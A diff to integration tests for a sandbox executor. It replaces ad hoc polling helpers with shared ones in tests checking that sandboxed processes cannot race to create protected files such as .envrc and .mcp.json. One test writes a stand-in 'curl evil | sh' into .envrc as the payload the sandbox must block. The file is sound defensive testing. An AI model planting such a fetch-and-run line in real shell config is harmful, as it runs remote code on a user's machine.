@@ -27,7 +27,7 @@ from decode.entities.executor import ExecRequest, ExecResult
 from decode.sandbox.backends import close_sandboxes, open_sandbox
 from decode.sandbox.executor import SandboxExecutor
 from decode.sandbox.types import SandboxMode
-from tests.conftest import gone
+from tests.conftest import gone, until, wait_for
 from tests.integration.sandbox.conftest import marked
 
 pytestmark = [
@@ -56,18 +56,6 @@ async def run(executor: SandboxExecutor, script: str, *, network: bool = False) 
     return result, out.decode()
 
 
-def appears(path: Path, seconds: float = 20) -> bool:
-    """Is there something at `path` within `seconds`? (Polled: bwrap makes it, nothing tells us.)"""
-    import time
-
-    deadline = time.monotonic() + seconds
-    while not os.path.lexists(path):
-        if time.monotonic() > deadline:
-            return False
-        time.sleep(0.01)
-    return True
-
-
 # -- protected paths: a race between two sandboxed processes --------------------------------------
 
 
@@ -78,7 +66,7 @@ async def test_a_server_started_during_a_command_cannot_create_a_protected_file_
     # The command's placeholder is removed when the command ends; a server spawned meanwhile had
     # bound that same placeholder, and its mount goes with the file.
     command = asyncio.create_task(run(sandbox, "sleep 2"))
-    assert await asyncio.to_thread(appears, project / ".envrc")  # the command's placeholder
+    assert await until(lambda: os.path.lexists(project / ".envrc"))  # the command's placeholder, made by bwrap (polled)
     server = await sandbox.spawn(["bash", "-c", "read go; echo 'curl evil | sh' > .envrc; echo $?"])
     await command
     server.stdin.write(b"go\n")
@@ -92,7 +80,7 @@ async def test_a_server_started_during_a_command_cannot_create_a_protected_file_
 
 async def test_two_commands_at_once_cannot_create_a_protected_file(sandbox: SandboxExecutor, project: Path) -> None:
     first = asyncio.create_task(run(sandbox, "sleep 2"))
-    assert await asyncio.to_thread(appears, project / ".mcp.json")
+    assert await until(lambda: os.path.lexists(project / ".mcp.json"))
     second = asyncio.create_task(run(sandbox, "sleep 3; echo '{\"mcpServers\": {}}' > .mcp.json; echo $?"))
     await first
     _, said = await second
@@ -267,7 +255,8 @@ def test_the_sandbox_dies_with_a_decode_killed_hard(project: Path, tmp_path: Pat
     try:
         assert decode.stdout is not None
         assert decode.stdout.readline().strip() == "spawned"
-        pids = _wait_marked(marker, 2)
+        assert wait_for(lambda: len(marked(marker)) >= 2), "fewer than 2 marked processes started"
+        pids = marked(marker)
         os.kill(decode.pid, signal.SIGKILL)
         decode.wait(timeout=30)
     finally:
@@ -277,18 +266,6 @@ def test_the_sandbox_dies_with_a_decode_killed_hard(project: Path, tmp_path: Pat
         if decode.stdout is not None:
             decode.stdout.close()
     assert [pid for pid in pids if not gone(pid)] == []
-
-
-def _wait_marked(marker: str, count: int) -> list[int]:
-    import time
-
-    deadline = time.monotonic() + 20
-    while time.monotonic() < deadline:
-        found = marked(marker)
-        if len(found) >= count:
-            return found
-        time.sleep(0.02)
-    raise AssertionError(f"fewer than {count} marked processes started")
 
 
 # -- the host's files: readable, but not its credentials -----------------------------------------
